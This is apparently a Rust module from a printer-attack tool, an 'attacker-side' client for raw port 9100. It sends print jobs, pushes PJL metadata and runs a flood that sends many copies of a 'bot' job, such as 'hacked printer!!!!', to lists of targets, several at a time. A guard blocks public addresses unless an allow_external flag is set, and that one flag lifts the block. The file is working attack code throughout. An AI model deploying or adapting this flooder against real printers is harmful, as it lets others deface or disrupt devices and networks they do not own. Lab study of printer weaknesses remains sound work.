//! Attacker-side raw-9100 client: single jobs, the repetition flood, and
//! control-channel metadata submission.
//!
//! A job is one TCP connection. The client writes every line with exactly
//! one trailing LF, half-closes, and waits for the printer to hang up; the
//! hang-up is the only completion signal a raw printer gives. Connection
//! failures are per-job events, counted and reported, never fatal to a
//! flood in progress.

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::path::Path;
use std::str::FromStr;
use std::thread;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::guard;
use crate::pjl::{self, JobMetadata};

#[derive(Debug, Clone)]
pub struct ClientOptions {
    pub connect_timeout: Duration,
    pub io_timeout: Duration,
    /// Pause between consecutive jobs to the same target.
    pub inter_job_delay: Duration,
    /// Ownership acknowledgement for non-private targets.
    pub allow_external: bool,
}

impl Default for ClientOptions {
    fn default() -> Self {
        ClientOptions {
            connect_timeout: Duration::from_secs(5),
            io_timeout: Duration::from_secs(5),
            inter_job_delay: Duration::ZERO,
            allow_external: false,
        }
    }
}

/// Renders job lines to wire bytes: each line, one LF, nothing else.
pub fn job_bytes<S: AsRef<str>>(lines: &[S]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for line in lines {
        bytes.extend_from_slice(line.as_ref().as_bytes());
        bytes.push(b'\n');
    }
    bytes
}

/// Streams raw bytes to the data port as one job. Returns bytes sent.
pub fn send_raw(addr: SocketAddr, payload: &[u8], opts: &ClientOptions) -> Result<u64> {
    guard::ensure_allowed(addr.ip(), opts.allow_external)?;
    let mut stream = TcpStream::connect_timeout(&addr, opts.connect_timeout)?;
    stream.set_write_timeout(Some(opts.io_timeout))?;
    stream.set_read_timeout(Some(opts.io_timeout))?;
    stream.write_all(payload)?;
    stream.shutdown(std::net::Shutdown::Write)?;
    // Wait for the printer's close so the job is fully handed over.
    let mut sink = [0u8; 1024];
    while let Ok(n) = stream.read(&mut sink) {
        if n == 0 {
            break;
        }
    }
    Ok(payload.len() as u64)
}

/// Sends one line-oriented job. Returns bytes sent.
pub fn send_job<S: AsRef<str>>(addr: SocketAddr, lines: &[S], opts: &ClientOptions) -> Result<u64> {
    send_raw(addr, &job_bytes(lines), opts)
}

/// The printer's answer on the control channel.
#[derive(Debug, Clone)]
pub struct ControlReply {
    pub bytes: Vec<u8>,
}

impl ControlReply {
    /// Metadata view of the reply; the model arrives here.
    pub fn metadata(&self) -> JobMetadata {
        pjl::parse_metadata(&self.bytes)
    }

    /// Last value of an arbitrary SET key in the reply.
    pub fn field(&self, key: &str) -> Option<String> {
        pjl::set_fields(&self.bytes)
            .into_iter()
            .rev()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v)
    }
}

/// Pushes job metadata over the control channel and collects the reply.
pub fn send_metadata(
    addr: SocketAddr,
    metadata: &JobMetadata,
    opts: &ClientOptions,
) -> Result<ControlReply> {
    guard::ensure_allowed(addr.ip(), opts.allow_external)?;
    let mut stream = TcpStream::connect_timeout(&addr, opts.connect_timeout)?;
    stream.set_write_timeout(Some(opts.io_timeout))?;
    stream.set_read_timeout(Some(opts.io_timeout))?;
    stream.write_all(metadata.set_lines().as_bytes())?;
    stream.shutdown(std::net::Shutdown::Write)?;
    let mut bytes = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        match stream.read(&mut chunk) {
            Ok(0) => break,
            Ok(n) => bytes.extend_from_slice(&chunk[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(_) => break,
        }
    }
    Ok(ControlReply { bytes })
}

/// Parses a targets file: one target per line, `IP` or `IP,PORT`, `#`
/// comments, optional `IP,PORT` header. Bare addresses default to 9100.
/// Any malformed line fails the whole list; nothing is contacted on error.
pub fn parse_targets(text: &str) -> Result<Vec<SocketAddr>> {
    let mut targets = Vec::new();
    let mut seen_row = false;
    for (idx, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let lowered = line.to_ascii_lowercase().replace(' ', "");
        if !seen_row && (lowered == "ip,port" || lowered == "ip") {
            continue;
        }
        seen_row = true;
        let bad =
            |why: &str| Error::InvalidTargets(format!("line {}: {} ({:?})", idx + 1, why, raw));
        let (ip_part, port) = match line.split_once(',') {
            None => (line, 9100u16),
            Some((ip, port_str)) => {
                let port: u32 = port_str
                    .trim()
                    .parse()
                    .map_err(|_| bad("port is not a number"))?;
                if port == 0 || port > u32::from(u16::MAX) {
                    return Err(bad("port out of range"));
                }
                (ip, port as u16)
            }
        };
        let ip = IpAddr::from_str(ip_part.trim()).map_err(|_| bad("bad IP address"))?;
        targets.push(SocketAddr::new(ip, port));
    }
    Ok(targets)
}

/// Splits a bot file into job lines. Line endings are normalized away; the
/// client re-adds exactly one LF per line on the wire. Form feeds inside a
/// line pass through untouched.
pub fn read_bot_lines(text: &str) -> Vec<String> {
    text.lines().map(str::to_string).collect()
}

/// A flood: every target gets `repetitions` copies of the bot job.
#[derive(Debug, Clone)]
pub struct FloodPlan {
    pub targets: Vec<SocketAddr>,
    pub bot_lines: Vec<String>,
    pub repetitions: u32,
    /// Targets attacked concurrently; per-target job order is always serial.
    pub parallel_targets: usize,
    pub options: ClientOptions,
}

impl FloodPlan {
    pub fn new(
        targets: Vec<SocketAddr>,
        bot_lines: Vec<String>,
        repetitions: u32,
    ) -> Result<FloodPlan> {
        if repetitions == 0 {
            return Err(Error::InvalidPlan("repetitions must be at least 1".into()));
        }
        if targets.is_empty() {
            return Err(Error::InvalidPlan("no targets".into()));
        }
        Ok(FloodPlan {
            targets,
            bot_lines,
            repetitions,
            parallel_targets: 1,
            options: ClientOptions::default(),
        })
    }

    pub fn from_files(targets_path: &Path, bot_path: &Path, repetitions: u32) -> Result<FloodPlan> {
        let targets_text =
            std::fs::read_to_string(targets_path).map_err(|e| Error::file(targets_path, e))?;
        let bot_text = std::fs::read_to_string(bot_path).map_err(|e| Error::file(bot_path, e))?;
        FloodPlan::new(
            parse_targets(&targets_text)?,
            read_bot_lines(&bot_text),
            repetitions,
        )
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TargetStats {
    pub target: SocketAddr,
    pub jobs_attempted: u64,
    pub jobs_connected: u64,
    pub jobs_refused: u64,
    pub bytes_sent: u64,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_error: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FloodResult {
    pub per_target: Vec<TargetStats>,
}

impl FloodResult {
    pub fn jobs_attempted(&self) -> u64 {
        self.per_target.iter().map(|t| t.jobs_attempted).sum()
    }

    pub fn jobs_connected(&self) -> u64 {
        self.per_target.iter().map(|t| t.jobs_connected).sum()
    }

    pub fn jobs_refused(&self) -> u64 {
        self.per_target.iter().map(|t| t.jobs_refused).sum()
    }

    pub fn bytes_sent(&self) -> u64 {
        self.per_target.iter().map(|t| t.bytes_sent).sum()
    }
}

fn flood_one_target(
    target: SocketAddr,
    payload: &[u8],
    repetitions: u32,
    opts: &ClientOptions,
) -> TargetStats {
    let mut stats = TargetStats {
        target,
        jobs_attempted: 0,
        jobs_connected: 0,
        jobs_refused: 0,
        bytes_sent: 0,
        last_error: None,
    };
    for rep in 0..repetitions {
        if rep > 0 && !opts.inter_job_delay.is_zero() {
            thread::sleep(opts.inter_job_delay);
        }
        stats.jobs_attempted += 1;
        match send_raw(target, payload, opts) {
            Ok(n) => {
                stats.jobs_connected += 1;
                stats.bytes_sent += n;
            }
            Err(e) => {
                stats.jobs_refused += 1;
                stats.last_error = Some(e.to_string());
            }
        }
    }
    stats
}

/// Runs the flood. Every target is screened by the interlock before the
/// first connection; per-target results come back in plan order.
pub fn run_flood(plan: &FloodPlan) -> Result<FloodResult> {
    if plan.targets.is_empty() {
        return Err(Error::InvalidPlan("no targets".into()));
    }
    if plan.repetitions == 0 {
        return Err(Error::InvalidPlan("repetitions must be at least 1".into()));
    }
    for t in &plan.targets {
        guard::ensure_allowed(t.ip(), plan.options.allow_external)?;
    }
    let payload = job_bytes(&plan.bot_lines);
    let width = plan.parallel_targets.max(1);

    let mut per_target = Vec::with_capacity(plan.targets.len());
    if width == 1 {
        for t in &plan.targets {
            per_target.push(flood_one_target(
                *t,
                &payload,
                plan.repetitions,
                &plan.options,
            ));
        }
    } else {
        // Waves of `width` targets; order within a wave is preserved by index.
        for wave in plan.targets.chunks(width) {
            let mut wave_stats: Vec<Option<TargetStats>> = vec![None; wave.len()];
            thread::scope(|s| {
                let handles: Vec<_> = wave
                    .iter()
                    .map(|t| {
                        s.spawn(|| flood_one_target(*t, &payload, plan.repetitions, &plan.options))
                    })
                    .collect();
                for (slot, handle) in wave_stats.iter_mut().zip(handles) {
                    *slot = Some(handle.join().expect("flood worker panicked"));
                }
            });
            per_target.extend(wave_stats.into_iter().flatten());
        }
    }
    Ok(FloodResult { per_target })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn job_bytes_one_lf_per_line() {
        assert_eq!(job_bytes(&["a", "b"]), b"a\nb\n");
        assert_eq!(job_bytes(&["hacked printer!!!!"]).len(), 19);
        assert_eq!(job_bytes::<&str>(&[]), b"");
    }

    #[test]
    fn bot_lines_normalize_endings_but_keep_form_feeds() {
        assert_eq!(read_bot_lines("x\r\ny\n"), vec!["x", "y"]);
        assert_eq!(read_bot_lines("a\x0cb"), vec!["a\x0cb"]);
        assert_eq!(
            read_bot_lines("no trailing newline"),
            vec!["no trailing newline"]
        );
    }

    #[test]
    fn targets_accept_bare_ip_and_ip_port() {
        let parsed =
            parse_targets("# lab fleet\nIP,PORT\n127.0.0.1\n127.0.0.1,9101\n\n10.0.0.5 , 9100\n")
                .unwrap();
        assert_eq!(
            parsed,
            vec![
                "127.0.0.1:9100".parse().unwrap(),
                "127.0.0.1:9101".parse().unwrap(),
                "10.0.0.5:9100".parse().unwrap(),
            ]
        );
    }

    #[test]
    fn targets_reject_bad_rows() {
        assert!(parse_targets("not-an-ip\n").is_err());
        assert!(parse_targets("127.0.0.1,0\n").is_err());
        assert!(parse_targets("127.0.0.1,99999\n").is_err());
        assert!(parse_targets("127.0.0.1,p\n").is_err());
    }

    #[test]
    fn header_only_skipped_on_first_row() {
        // A literal header token later in the file is a row, and fails.
        assert!(parse_targets("127.0.0.1\nip,port\n").is_err());
    }

    #[test]
    fn plan_rejects_zero_repetitions_and_empty_targets() {
        let t: Vec<SocketAddr> = vec!["127.0.0.1:9100".parse().unwrap()];
        assert!(FloodPlan::new(t.clone(), vec![], 0).is_err());
        assert!(FloodPlan::new(vec![], vec![], 3).is_err());
        assert!(FloodPlan::new(t, vec!["x".into()], 1).is_ok());
    }

    #[test]
    fn flood_refuses_public_targets_without_acknowledgement() {
        let plan = FloodPlan::new(
            vec!["87.156.104.144:9100".parse().unwrap()],
            vec!["x".into()],
            1,
        )
        .unwrap();
        assert!(matches!(run_flood(&plan), Err(Error::TargetNotAllowed(_))));
    }
}
